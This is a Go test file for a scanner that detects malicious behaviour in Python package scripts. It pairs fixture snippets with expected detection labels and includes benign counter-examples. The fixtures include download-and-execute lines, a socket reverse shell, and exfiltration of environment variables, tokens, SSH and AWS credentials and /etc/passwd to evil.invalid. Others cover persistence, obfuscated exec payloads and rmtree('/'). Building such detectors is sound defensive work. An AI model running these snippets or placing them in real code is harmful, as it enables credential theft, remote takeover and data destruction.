package shell

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// pythonMalicious is Python in the shapes that malware has, with hosts that cannot
// exist.
var pythonMalicious = []scriptTest{
	{"import under another name", `import os as o
o.system('curl http://evil.invalid/a | sh')
`, []string{
		"download: curl http://evil.invalid/a",
		"download-run: sh from a pipe",
		"host evil.invalid",
	}},
	{"names from a module", `from subprocess import run as r, DEVNULL as nul
r(['node', 'x.js'], stdout=nul, stderr=nul)
`, []string{
		"discard-output: stdout and stderr",
		"runs-file: node x.js",
	}},
	{"import as an expression", `__import__('os').system('curl -d @/etc/passwd http://evil.invalid')
`, []string{
		"reads-secrets: etc/passwd",
		"post: curl -d",
		"host evil.invalid",
	}},
	{"getattr of joined names", `getattr(__import__('o' + 's'), 'sys' + 'tem')('id')
`, []string{
		"host-identity: id",
	}},
	{"items of dictionaries", `import os
vars(os)['system']('id')
os.__dict__['popen']('whoami')
d = {'a': os}
d['a'].system('hostname')
`, []string{
		"host-identity: id",
		"host-identity: whoami",
		"host-identity: hostname",
	}},
	{"base64", `import base64
exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
		"host-identity: id",
	}},
	{"zlib in a lambda, backwards", `f = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s[::-1]))
exec(f(b'Jjgb6BABXHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
		"host-identity: id",
	}},
	{"characters by number", `exec(''.join(chr(c) for c in [111, 115, 46, 103, 101, 116, 108, 111]))
exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))
exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115]))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
		"inline-code: exec",
		"decode-run: exec",
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"a cipher", `exec(''.join(chr(ord(c) ^ 7) for c in open('data.txt').read()))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"rot13 and hexadecimal", `import codecs
exec(codecs.decode('vzcbeg bf; bf.flfgrz("vq")', 'rot13'))
exec(bytes.fromhex('696d706f7274206f73').decode())
`, []string{
		"inline-code: exec",
		"decode-run: exec",
		"host-identity: id",
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"marshal", `import marshal
exec(marshal.loads(open('data.bin', 'rb').read()))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"download and start", `import urllib.request, subprocess
urllib.request.urlretrieve('http://evil.invalid/a.exe', 'a.exe')
subprocess.Popen(['a.exe'])
`, []string{
		"download: urllib.request.urlretrieve http://evil.invalid/a.exe",
		"runs-file: a.exe",
		"download-run: file a.exe",
		"host evil.invalid",
	}},
	{"download and exec", `import requests as q
exec(q.get('https://evil.invalid/p.py').text)
`, []string{
		"download: requests.get https://evil.invalid/p.py",
		"inline-code: exec",
		"download-run: exec",
		"host evil.invalid",
	}},
	{"download, write, run", `import sys, subprocess, requests
code = requests.get('https://evil.invalid/p.py').text
with open('p.py', 'w') as f:
    f.write(code)
subprocess.run([sys.executable, 'p.py'])
`, []string{
		"download: requests.get https://evil.invalid/p.py",
		"runs-file: python p.py",
		"download-run: file p.py",
		"host evil.invalid",
	}},
	{"the environment is sent", `import json, os, requests
requests.post('https://evil.invalid/c', data=json.dumps(dict(os.environ)))
`, []string{
		"reads-environment: os.environ",
		"reads-secrets: os.environ (the whole environment)",
		"post: requests.post https://evil.invalid/c",
		"host evil.invalid",
	}},
	{"the identity is sent in a URL", `import getpass, socket, urllib.request
d = {'h': socket.gethostname(), 'u': getpass.getuser()}
urllib.request.urlopen('https://evil.invalid/?' + str(d))
`, []string{
		"host-identity: socket.gethostname",
		"host-identity: getpass.getuser",
		"post: urllib.request.urlopen with data of the machine",
		"host evil.invalid",
	}},
	{"a token in a formatted string", `import os, requests
token = os.environ.get('NPM_TOKEN')
s = requests.Session()
s.get(f'https://evil.invalid/{token}/x')
`, []string{
		"reads-secrets: $NPM_TOKEN",
		"post: requests.Session().get with data of the machine",
		"host evil.invalid",
	}},
	{"Python 2", `import urllib2, httplib
exec urllib2.urlopen('http://evil.invalid/x').read()
print 'done'
c = httplib.HTTPConnection('evil.invalid')
c.request('POST', '/x', open('/etc/passwd').read())
`, []string{
		"download: urllib.request.urlopen http://evil.invalid/x",
		"inline-code: exec",
		"download-run: exec",
		"reads-secrets: etc/passwd",
		"post: http.client.HTTPConnection().request POST",
		"host evil.invalid",
	}},
	{"a request with a body", `import urllib.request as u
r = u.Request('https://evil.invalid/x', data=b'1', headers={})
u.urlopen(r)
`, []string{
		"post: urllib.request.urlopen data to https://evil.invalid/x",
		"host evil.invalid",
	}},
	{"a reverse shell", `import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('evil.invalid', 4242))
os.dup2(s.fileno(), 0)
subprocess.call(['/bin/sh', '-i'])
`, []string{
		"post: socket.socket().connect",
		"download-run: input and output of a program tied to a socket",
		"host evil.invalid",
	}},
	{"what a socket gives is run", `import socket
s = socket.create_connection(('evil.invalid', 80))
exec(s.recv(1024))
`, []string{
		"post: socket.create_connection",
		"inline-code: exec",
		"download-run: exec",
		"host evil.invalid",
	}},
	{"names made at run time are looked up", `import socket
h = socket.gethostname()
socket.gethostbyname(h + '.x.invalid')
`, []string{
		"host-identity: socket.gethostname",
		"dns-lookup: socket.gethostbyname of a name made at run time",
		"host *.x.invalid",
	}},
	{"credentials in a loop", `import os
for f in ['~/.ssh/id_rsa', '~/.aws/credentials']:
    p = os.path.expanduser(f)
    print(open(p).read())
`, []string{
		"reads-secrets: .aws",
		"reads-secrets: .ssh",
	}},
	{"credentials by pathlib, posted", `from pathlib import Path
import http.client
t = (Path.home() / '.npmrc').read_text()
c = http.client.HTTPSConnection('evil.invalid')
c.request('POST', '/x', t)
`, []string{
		"reads-secrets: .npmrc",
		"post: http.client.HTTPSConnection().request POST",
		"host evil.invalid",
	}},
	{"a profile is written", `import os
with open(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a') as f:
    f.write('node x.js')
`, []string{
		"persistence: .bashrc",
	}},
	{"a key of the registry", `import winreg as w
k = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, w.KEY_SET_VALUE)
w.SetValueEx(k, 'x', 0, w.REG_SZ, 'a.exe')
`, []string{
		"persistence: CurrentVersion/Run",
	}},
	{"native code", `import ctypes
p = ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)
ctypes.CDLL('./lib/x.so').run()
`, []string{
		"native-code: ctypes.windll.kernel32.VirtualAlloc",
		"native-code: ctypes.CDLL ./lib/x.so",
		"runs-file: ctypes lib/x.so",
		"native-code: ctypes.CDLL().run",
	}},
	{"a helper function", `import subprocess

def run(cmd):
    return subprocess.check_output(cmd, shell=True)

run('curl http://evil.invalid/a -o a')
run('sh a')
`, []string{
		"download: curl http://evil.invalid/a",
		"runs-file: sh a",
		"download-run: file a",
		"host evil.invalid",
	}},
	{"a class", `import urllib.request as q

class A:
    def __init__(self, host):
        self.u = 'http://' + host + '/x'

    def go(self):
        exec(q.urlopen(self.u).read())

A('evil.invalid').go()
`, []string{
		"download: urllib.request.urlopen http://evil.invalid/x",
		"inline-code: exec",
		"download-run: exec",
		"host evil.invalid",
	}},
	{"a command of setuptools", `from setuptools import setup
from setuptools.command.install import install

class I(install):
    def run(self):
        install.run(self)
        __import__('os').system('node x.js &')

setup(cmdclass={'install': I})
`, []string{
		"background: &",
		"runs-file: node x.js",
	}},
	{"a thread", `import threading, os
threading.Thread(target=os.system, args=('curl http://evil.invalid',)).start()
`, []string{
		"download: curl http://evil.invalid",
		"host evil.invalid",
	}},
	{"hidden processes", `import subprocess
subprocess.Popen('node x.js', shell=True, creationflags=0x08000000)
subprocess.Popen(['node', 'y.js'], start_new_session=True)
`, []string{
		"background: subprocess.Popen without a window",
		"runs-file: node x.js",
		"background: subprocess.Popen in a new session",
		"runs-file: node y.js",
	}},
	{"traces are removed", `import os, sys
os.remove(__file__)
os.unlink(sys.argv[0])
open('package.json', 'w').write('{}')
`, []string{
		"delete: itself",
		"delete: itself",
		"replace-manifest: write",
	}},
	{"packages are installed", `import sys, subprocess
subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])
`, []string{
		"package-manager: pip install evil",
	}},
	{"PowerShell inside", `import subprocess
subprocess.run(['powershell', '-NoProfile', '-Command', 'iwr http://evil.invalid/a.ps1 | iex'])
`, []string{
		"inline-code: powershell -Command",
		"download: iwr http://evil.invalid/a.ps1",
		"inline-code: Invoke-Expression",
		"download-run: Invoke-Expression",
		"host evil.invalid",
	}},
	{"either branch", `import os
if os.name == 'nt':
    c = 'curl http://evil.invalid/w'
else:
    c = 'wget http://evil.invalid/u'
os.system(c)
`, []string{
		"download: curl http://evil.invalid/w",
		"download: wget http://evil.invalid/u",
		"host evil.invalid",
	}},
	{"everything of a module", `from os import *
system('curl evil.invalid | sh')
`, []string{
		"download: curl evil.invalid",
		"download-run: sh from a pipe",
		"host evil.invalid",
	}},
	{"letters of other alphabets", "import os\n\U0001d428\U0001d42c.\U0001d5cc\U0001d5d2\U0001d5cc\U0001d5cd\U0001d5be\U0001d5c6('id')\n", []string{
		"host-identity: id",
	}},
	{"eval gives a function", `z = eval('__import__')('os')
z.popen('id').read()
`, []string{
		"inline-code: eval",
		"host-identity: id",
	}},
	{"exec and spawn", `import os
os.execvp('node', ['node', 'x.js'])
os.spawnl(os.P_NOWAIT, '/usr/bin/node', 'node', 'y.js')
`, []string{
		"runs-file: node x.js",
		"runs-file: node y.js",
	}},
	{"a module by its joined name", `import importlib
importlib.import_module('sub' + 'process').call('node a.js', shell=True)
`, []string{
		"runs-file: node a.js",
	}},
	{"a start-up folder", `import shutil, os
shutil.copy('x.desktop', os.path.expanduser('~/.config/autostart/x.desktop'))
`, []string{
		"persistence: .config/autostart",
	}},
	{"templates", `import os
os.system('curl http://%s/%s' % ('evil.invalid', 'a'))
os.system('node {}/{name}.js'.format('lib', name='b'))
os.system('no' 'de ' + '-'.join(['c', 'd']) + '.js'.upper().lower())
`, []string{
		"download: curl http://evil.invalid/a",
		"runs-file: node lib/b.js",
		"runs-file: node c-d.js",
		"host evil.invalid",
	}},
	{"a variable that grows", `s = ''
s += 'import os;'
s += 'os.system("id")'
exec(s)
`, []string{
		"inline-code: exec",
		"host-identity: id",
	}},
	{"a program from a pipe", `import subprocess, requests
subprocess.run(['bash'], input=requests.get('http://evil.invalid/x').content)
`, []string{
		"download: requests.get http://evil.invalid/x",
		"download-run: bash from a pipe",
		"host evil.invalid",
	}},
}

// pythonLegitimate is Python as packages ship it, with all that is said of each.
var pythonLegitimate = []scriptTest{
	{"comments and strings", `# os.system('curl http://evil.invalid | sh')
'''
import os
os.system('curl http://evil.invalid | sh')
'''
x = "exec(requests.get('http://evil.invalid').text)"
print(x, 'https://docs.invalid/npmrc', '~/.npmrc')
`, nil},
	{"names of others", `class Shell:
    def system(self, text):
        return text

def exec_(x):
    return x

Shell().system('curl http://evil.invalid | sh')
exec_('id')
re.compile('a')
ast.literal_eval('{}')
model.eval()
cursor.execute('select 1')
`, nil},
	{"a build script", `import os
import subprocess
import sys

ROOT = os.path.dirname(os.path.abspath(__file__))

def main(argv):
    out = os.path.join(ROOT, 'out')
    if not os.path.isdir(out):
        os.makedirs(out)
    subprocess.check_call(['make', '-C', out] + argv[1:])
    return subprocess.call(['cmake', '--build', out])

if __name__ == '__main__':
    sys.exit(main(sys.argv))
`, nil},
	{"a setup.py", `import re
from setuptools import setup, Extension

with open('README.md') as f:
    readme = f.read()
version = re.search(r'"version": "(.*)"', open('package.json').read()).group(1)
setup(name='x', version=version, long_description=readme, ext_modules=[Extension('x', ['x.c'])])
`, nil},
	{"the environment of a build", `import os, subprocess
env = os.environ.copy()
env['CC'] = os.environ.get('CC', 'cc')
if 'CXX' in os.environ:
    env['CXX'] = os.environ['CXX']
subprocess.check_call(['make'], env=env)
`, []string{
		"reads-environment: os.environ",
		"reads-environment: $CC",
		"reads-environment: $CXX",
		"reads-environment: $CXX",
	}},
	{"a version of Python", `import sys
if sys.version_info < (3, 6):
    sys.exit('Python 3.6 is needed')
print(sys.version, end='')
`, nil},
	{"a version file", `here = 'lib'
ns = {}
exec(open(here + '/version.py').read(), ns)
`, []string{
		"runs-file: python lib/version.py",
		"inline-code: exec",
	}},
	{"a download that the build needs", `import hashlib, tarfile, urllib.request

URL = 'https://dl.example.invalid/v1/lib.tar.gz'

def fetch(to):
    data = urllib.request.urlopen(URL).read()
    assert hashlib.sha256(data).hexdigest() == 'abc'
    with open(to, 'wb') as f:
        f.write(data)
    tarfile.open(to).extractall('deps')

fetch('lib.tar.gz')
`, []string{
		"download: urllib.request.urlopen https://dl.example.invalid/v1/lib.tar.gz",
		"host dl.example.invalid",
	}},
	{"whether a tool exists", `import subprocess, os

def has(tool):
    try:
        subprocess.check_call([tool, '--version'], stdout=subprocess.DEVNULL)
        return True
    except OSError:
        return False

has('cmake')
subprocess.call(['which', 'ninja'], stdout=subprocess.DEVNULL)
`, nil},
	{"decoding that runs nothing", `import base64, json, zlib
icon = base64.b64decode('aGVsbG8=')
open('icon.png', 'wb').write(zlib.decompress(icon))
print(json.loads(bytes.fromhex('7b7d').decode()))
`, nil},
	{"the platform", `import os, platform, sys
print(platform.system(), platform.machine(), sys.platform, os.cpu_count())
`, nil},
	{"a handler", `import json

def handler(event, context):
    body = json.loads(event['body'])
    return {'statusCode': 200, 'body': json.dumps({'ok': True, 'n': len(body)})}
`, nil},
}

// pythonCalls go through what is known of the libraries and the language.
var pythonCalls = []scriptTest{
	{"exec(gzip.decompress(base64.b64decode('H", `import gzip, base64
exec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlHIL+bKL9YrriwuSc3VUM9MUdcEAMgdrHwZAAAA')))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
		"host-identity: id",
	}},
	{"exec(bz2.decompress(base64.b64decode('Ql", `import bz2, base64
exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWazjCn8AAAVRgAAQQOEGItwgIAAxTAATQoDRp+qeiKOMb0NhzKB1WYlU+LuSKcKEhWcYU/g=')))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
		"host-identity: id",
	}},
	{"exec('aWQ='.decode('base64'))", `exec('aWQ='.decode('base64'))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"exec('6964'.decode('hex'))", `exec('6964'.decode('hex'))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"exec(b'aWQ='.decode('utf-8'))", `exec(b'aWQ='.decode('utf-8'))
`, []string{
		"inline-code: exec",
	}},
	{"exec('\\\\x69d'.encode().decode('unicode_e", `exec('\\x69d'.encode().decode('unicode_escape'))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"pickle.loads(requests.get('http://a.inva", `import pickle, requests
pickle.loads(requests.get('http://a.invalid').content)
`, []string{
		"download: requests.get http://a.invalid",
		"download-run: pickle.loads",
		"host a.invalid",
	}},
	{"exec(Fernet(k).decrypt(b'x'))", `from cryptography.fernet import Fernet
exec(Fernet(k).decrypt(b'x'))
`, []string{
		"inline-code: exec",
		"decode-run: exec",
	}},
	{"types.FunctionType(marshal.loads(x), glo", `import types, marshal
types.FunctionType(marshal.loads(x), globals())()
`, []string{
		"decode-run: types.FunctionType",
	}},
	{"runpy.run_path('lib/a.py')", `import runpy
runpy.run_path('lib/a.py')
`, []string{
		"runs-file: python lib/a.py",
	}},
	{"execfile('b.py')", `execfile('b.py')
`, []string{
		"runs-file: python b.py",
	}},
	{"SourceFileLoader('m', 'c.py').load_modul", `from importlib.machinery import SourceFileLoader
SourceFileLoader('m', 'c.py').load_module()
`, []string{
		"runs-file: python c.py",
	}},
	{"os.startfile('a.exe')", `import os
os.startfile('a.exe')
`, []string{
		"runs-file: a.exe",
	}},
	{"if os.fork(): os._exit(0)", `import os
if os.fork(): os._exit(0)
`, []string{
		"background: os.fork",
	}},
	{"os.posix_spawn('/usr/bin/curl', ['curl',", `import os
os.posix_spawn('/usr/bin/curl', ['curl', 'http://a.invalid'], os.environ)
`, []string{
		"reads-environment: os.environ",
		"download: curl http://a.invalid",
		"host a.invalid",
	}},
	{"os.execl('/bin/sh', 'sh', '-c', 'curl a.", `import os
os.execl('/bin/sh', 'sh', '-c', 'curl a.invalid')
`, []string{
		"download: curl a.invalid",
		"host a.invalid",
	}},
	{"pip.main(['install', 'evil'])", `import pip
pip.main(['install', 'evil'])
`, []string{
		"package-manager: pip install evil",
	}},
	{"asyncio.run(f())", `import asyncio
async def f():
    await asyncio.create_subprocess_shell('curl a.invalid')
asyncio.run(f())
`, []string{
		"download: curl a.invalid",
		"host a.invalid",
	}},
	{"pty.spawn('/bin/bash')", `import pty
pty.spawn('/bin/bash')
`, nil},
	{"p.communicate(__import__('requests').get", `import subprocess
p = subprocess.Popen(['bash'], stdin=subprocess.PIPE)
p.communicate(__import__('requests').get('http://a.invalid').content)
`, []string{
		"download: requests.get http://a.invalid",
		"download-run: bash from a pipe",
		"host a.invalid",
	}},
	{"subprocess.call(['npm', 'publish'], cwd=", `import subprocess
subprocess.call(['npm', 'publish'], cwd='sub')
`, []string{
		"package-manager: npm publish",
	}},
	{"subprocess.call(['node', 'a.js'], cwd='s", `import subprocess
subprocess.call(['node', 'a.js'], cwd='sub', preexec_fn=__import__('os').setsid)
`, []string{
		"background: subprocess.call in a new session",
		"runs-file: node sub/a.js",
	}},
	{"subprocess.call(args, shell=True)", `import subprocess
subprocess.call(args, shell=True)
`, []string{
		"dynamic-command: subprocess.call",
	}},
	{"subprocess.run('node a.js', shell=True, ", `import subprocess
subprocess.run('node a.js', shell=True, stdout=open('/dev/null', 'w'))
`, []string{
		"discard-output: stdout",
		"runs-file: node a.js",
	}},
	{"httpx.post('https://a.invalid', json={})", `import httpx
httpx.post('https://a.invalid', json={})
`, []string{
		"post: httpx.post https://a.invalid",
		"host a.invalid",
	}},
	{"requests.request('GET', 'https://b.inval", `import requests
requests.request('PUT', 'https://a.invalid', data=None)
requests.request('GET', 'https://b.invalid', data=None)
`, []string{
		"post: requests.request PUT",
		"download: requests.request https://b.invalid",
		"host a.invalid",
		"host b.invalid",
	}},
	{"urllib3.PoolManager().request('GET', 'ht", `import urllib3
urllib3.PoolManager().request('GET', 'https://a.invalid')
`, []string{
		"download: urllib3.PoolManager().request https://a.invalid",
		"host a.invalid",
	}},
	{"            exec(await r.text())", `import aiohttp
async def f():
    async with aiohttp.ClientSession() as s:
        async with s.get('https://a.invalid') as r:
            exec(await r.text())
`, []string{
		"download: aiohttp.ClientSession().get https://a.invalid",
		"inline-code: exec",
		"download-run: exec",
		"host a.invalid",
	}},
	{"__import__('os').chmod('x.bin', 0o755)", `import wget
wget.download('http://a.invalid/x.bin', 'x.bin')
__import__('os').chmod('x.bin', 0o755)
`, []string{
		"download: wget.download http://a.invalid/x.bin",
		"download-run: chmod x.bin",
		"host a.invalid",
	}},
	{"f.storbinary('STOR x', open('x', 'rb'))", `import ftplib
f = ftplib.FTP('a.invalid')
f.storbinary('STOR x', open('x', 'rb'))
`, []string{
		"post: ftplib.FTP().storbinary",
		"host a.invalid",
	}},
	{"s.sendmail('a', 'b', 'c')", `import smtplib
s = smtplib.SMTP('a.invalid', 25)
s.sendmail('a', 'b', 'c')
`, []string{
		"post: smtplib.SMTP().sendmail",
		"host a.invalid",
	}},
	{"c.connect('a.invalid')", `import paramiko
c = paramiko.SSHClient()
c.connect('a.invalid')
`, []string{
		"post: paramiko.SSHClient().connect",
		"host a.invalid",
	}},
	{"telnetlib.Telnet('a.invalid')", `import telnetlib
telnetlib.Telnet('a.invalid')
`, []string{
		"post: telnetlib.Telnet",
		"host a.invalid",
	}},
	{"s.sendto(b'x', ('a.invalid', 53))", `import socket
s = socket.socket()
s.sendto(b'x', ('a.invalid', 53))
`, []string{
		"post: socket.socket().sendto",
		"host a.invalid",
	}},
	{"socket.gethostbyname('localhost')", `import socket
socket.getaddrinfo('a.invalid', 80)
socket.gethostbyname(socket.gethostname())
socket.gethostbyname('localhost')
`, []string{
		"dns-lookup: socket.getaddrinfo",
		"host-identity: socket.gethostname",
		"host-identity: socket.gethostbyname",
		"host a.invalid",
	}},
	{"dns.resolver.resolve('a.invalid', 'TXT')", `import dns.resolver
dns.resolver.resolve('a.invalid', 'TXT')
`, []string{
		"dns-lookup: dns.resolver.resolve",
		"host a.invalid",
	}},
	{"requests.get('http://169.254.169.254/lat", `import requests
requests.get('http://169.254.169.254/latest/meta-data/')
`, []string{
		"reads-secrets: 169.254.169.254",
		"download: requests.get http://169.254.169.254/latest/meta-data/",
		"host 169.254.169.254",
	}},
	{"x.ServerProxy('http://a.invalid')", `import xmlrpc.client as x
x.ServerProxy('http://a.invalid')
`, []string{
		"post: xmlrpc.client.ServerProxy",
		"host a.invalid",
	}},
	{"platform.node(), os.getlogin(), uuid.get", `import platform, os, uuid
platform.node(), os.getlogin(), uuid.getnode(), platform.system()
`, []string{
		"host-identity: platform.node",
		"host-identity: os.getlogin",
		"host-identity: uuid.getnode",
	}},
	{"keyring.get_password('a', 'b')", `import keyring
keyring.get_password('a', 'b')
`, []string{
		"reads-secrets: keyring.get_password",
	}},
	{"sqlite3.connect(path + '/Default/Login D", `import sqlite3
sqlite3.connect(path + '/Default/Login Data')
`, []string{
		"reads-secrets: Login Data",
	}},
	{"for f in glob.glob(os.path.expanduser('~", `import glob, os
for f in glob.glob(os.path.expanduser('~/.ssh/*')): pass
`, []string{
		"reads-secrets: .ssh",
	}},
	{"Path(__file__).unlink()", `from pathlib import Path
p = Path('~/.config/systemd') / 'x.service'
p.write_text('x')
Path('package.json').write_text('{}')
Path(__file__).unlink()
`, []string{
		"persistence: .config/systemd",
		"replace-manifest: write",
		"delete: itself",
	}},
	{"Path('x').with_name('.npmrc').read_bytes", `from pathlib import Path
Path('a.js').rename('package.json')
Path('.').joinpath('.env').open().read()
Path('x').with_name('.npmrc').read_bytes()
`, []string{
		"replace-manifest: os.rename a.js",
		"reads-secrets: .env",
		"reads-secrets: .npmrc",
	}},
	{"open('a').read()", `import shutil
shutil.copyfile('x.json', 'package.json')
shutil.rmtree('/')
shutil.copy('~/.npmrc', 'a')
open('a').read()
`, []string{
		"replace-manifest: shutil.copyfile x.json",
		"delete: everything in /",
		"reads-secrets: .npmrc",
	}},
	{"json.dump({}, open('package.json', 'w'))", `import json
json.dump({}, open('package.json', 'w'))
`, []string{
		"replace-manifest: write",
	}},
	{"os.system('node a.js')", `import os
os.chdir('lib')
os.system('node a.js')
`, []string{
		"runs-file: node lib/a.js",
	}},
	{"for k, v in os.environ.items(): pass", `import os
print(os.environ['HOME'], os.getenv('X_TOKEN'))
'%s' % os.environ
for k, v in os.environ.items(): pass
`, []string{
		"reads-environment: $HOME",
		"reads-secrets: $X_TOKEN",
		"reads-environment: os.environ",
		"reads-secrets: os.environ (the whole environment)",
		"reads-environment: os.environ",
	}},
	{"ctypes.pythonapi.PyRun_SimpleString(b'x'", `import ctypes
ctypes.cdll.LoadLibrary('libc.so.6')
ctypes.pythonapi.PyRun_SimpleString(b'x')
`, []string{
		"native-code: ctypes.cdll.LoadLibrary libc.so.6",
		"native-code: ctypes.pythonapi.PyRun_SimpleString",
	}},
	{"c.write()", `import crontab
c = crontab.CronTab(user=True)
c.write()
`, []string{
		"persistence: crontab.CronTab",
		"persistence: crontab.CronTab().write",
	}},
	{"os.system(f + g)", `import os
a, (b, c) = 1, ('curl ', 'a.invalid')
os.system(b + c)
d = e = 'wget b.invalid'
os.system(d)
[f, g] = ['nc', ' c.invalid 1']
os.system(f + g)
`, []string{
		"download: curl a.invalid",
		"download: wget b.invalid",
		"post: nc",
		"host a.invalid",
		"host b.invalid",
		"host c.invalid",
	}},
	{"if True: os.system('wget b.invalid')", `import os
x: str = 'curl a.invalid'
os.system(x); y = 'no'
y += 'de a.js'
os.system(y)
if True: os.system('wget b.invalid')
`, []string{
		"download: curl a.invalid",
		"runs-file: node a.js",
		"download: wget b.invalid",
		"host a.invalid",
		"host b.invalid",
	}},
	{"while os.system('id'): pass", `import os
with open('x') as f, open('y') as g: os.system('curl a.invalid')
try: os.system('wget b.invalid')
except (A, B) as e: os.system('nc c.invalid 1')
else: pass
finally: os.system('nc d.invalid 1')
while os.system('id'): pass
`, []string{
		"download: curl a.invalid",
		"download: wget b.invalid",
		"post: nc",
		"post: nc",
		"host-identity: id",
		"host a.invalid",
		"host b.invalid",
		"host c.invalid",
		"host d.invalid",
	}},
	{"del x[os.getlogin()]", `import os
@os.system('curl a.invalid')
def f(x=os.system('wget b.invalid')): pass
class C: y = os.system('id')
lambda: os.system('whoami')
{k: os.system('hostname') for k in z}
assert os.system('nc c.invalid 1')
del x[os.getlogin()]
`, []string{
		"download: curl a.invalid",
		"host-identity: id",
		"host-identity: hostname",
		"post: nc",
		"host-identity: os.getlogin",
		"download: wget b.invalid",
		"host-identity: whoami",
		"host a.invalid",
		"host b.invalid",
		"host c.invalid",
	}},
	{"g.system('curl a.invalid')", `def f():
    global g
    import os as g
f()
g.system('curl a.invalid')
`, []string{
		"download: curl a.invalid",
		"host a.invalid",
	}},
	{"A().run()", `class A:
    cmd = 'curl a.invalid'
    @staticmethod
    def go(x): __import__('os').system(x)
    def run(self): self.go2(self.cmd)
    def go2(self, x): __import__('os').system(x)
A().run()
`, []string{
		"download: curl a.invalid",
		"dynamic-command: os.system",
		"host a.invalid",
	}},
	{"os.system(rf'wget b.invalid\\n')", `import os
f = f'''{'curl'} {f"a{'.'}invalid"}'''
os.system(f)
os.system(rf'wget b.invalid\n')
`, []string{
		"download: curl a.invalid",
		"download: wget b.invalidn",
		"host a.invalid",
		"host b.invalidn",
	}},
}

func TestPython(t *testing.T) {
	checkScripts(t, LanguagePython, "setup/x.py", pythonMalicious)
	checkScripts(t, LanguagePython, "setup/x.py", pythonLegitimate)
	checkScripts(t, LanguagePython, "setup/x.py", pythonCalls)
}

// TestPythonValues goes through the expressions whose values are computed. A
// star stands for what stays unknown.
func TestPythonValues(t *testing.T) {
	tests := []struct{ expression, want string }{
		{`'a' + "b" 'c'`, "abc"},
		{`'a' * 3 + str(4) + '%d' % 5`, "aaa45"},
		{`r'a.b' + u'c' + b'd'.decode()`, "a.bcd"},
		{`'\x61\u0062\103\
d'`, "abCd"},
		{`f'a{"b"}{1 + 1}{{c}}'`, "ab2{c}"},
		{`f'{x}-{x!r:>4}'`, "one-one"},
		{`'{}{1}{n}'.format('a', 'b', n='c')`, "abc"},
		{`'%s-%s%%' % ('a', x)`, "a-one%"},
		{`'%(a)s-' % {'a': 1}`, "*-"},
		{`'-'.join(['a', 'b'] + ['c'])`, "a-b-c"},
		{`''.join(reversed('cba'))`, "abc"},
		{`'cba'[::-1]`, "abc"},
		{`'abcdef'[1:4]`, "bcd"},
		{`'abcdef'[-2:] + 'abc'[0] + 'abc'[-1]`, "efac"},
		{`'a_b'.replace('_', '-')`, "a-b"},
		{`'  A '.strip().lower()`, "a"},
		{`'a,b'.split(',')[1]`, "b"},
		{`{'k': 'v'}['k'] + {'k': 'w'}.get('k')`, "vw"},
		{`['a', 'b'][1] + ('c', 'd')[0]`, "bc"},
		{`chr(97) + chr(0x62) + chr(ord('b') + 1)`, "abc"},
		{`''.join(chr(n ^ 1) for n in [96, 99])`, "ab"},
		{`''.join([c.upper() for c in 'ab'])`, "AB"},
		{`''.join(map(lambda n: chr(n - 1), (98, 99)))`, "ab"},
		{`bytes([97, 98]).decode('ascii')`, "ab"},
		{`bytes.fromhex('6162').decode()`, "ab"},
		{`__import__('base64').b64decode(b'YWI=').decode()`, "ab"},
		{`__import__('base64').b32decode('MFRA====').decode()`, "ab"},
		{`__import__('base64').b85decode('VPX').decode()`, "ab"},
		{`__import__('binascii').unhexlify('6162').decode()`, "ab"},
		{`__import__('codecs').decode('no', 'rot13')`, "ab"},
		{`str(int('61', 16)) + str(int('0b11', 0)) + str(7 // 2) + str(9 % 4) + str(1 << 3)`, "973318"},
		{`(lambda a, b='c': a + b)('b')`, "bc"},
		{`(y := 'a') + y`, "aa"},
		{`two('b')`, "ab"},
		{`os.path.join('a', 'b', os.path.basename('c/d.js'))`, "a/b/d.js"},
		{`os.path.dirname(os.path.abspath(__file__)) + '/y'`, "setup/y"},
		{`str(pathlib.Path(__file__).parent / 'z')`, "setup/z"},
		{`x if y else x`, "one"},
		{`input()`, "*"},
		{`'a' + input() + 'b'`, "a*b"},
		{`missing[0] + 'b'`, "*b"},
		{`'abc'.translate(t)`, "*"},
		{`zlib.decompress(b'x')`, "*"},
	}
	for _, test := range tests {
		text := "import os, pathlib\nx = 'one'\ndef two(b, a='a'):\n    return a + b\ny = input()\n" +
			"os.system('curl \"http://h.invalid/[' + " + test.expression + " + ']\"')\n"
		if got := fetched(ParseScript(LanguagePython, text, "setup/x.py")); got != test.want {
			t.Errorf("%s is %q, want %q", test.expression, got, test.want)
		}
	}
}

func TestPythonPositions(t *testing.T) {
	text := "import os\n" +
		"def f(c):\n" +
		"    os.system(c)\n" +
		"s = '\u00e9\U0001F600'; f('curl a.invalid')\n" +
		"x = (1,\n     os.popen('''true\nwget b.invalid'''))\n" +
		"exec('import os; os.system(\"nc c.invalid 1\")')\n" +
		"if x: os.getlogin()\n"
	want := []Act{
		{Kind: KindDownload, Line: 4, Column: 15, Text: "curl a.invalid", Detail: "curl a.invalid"},
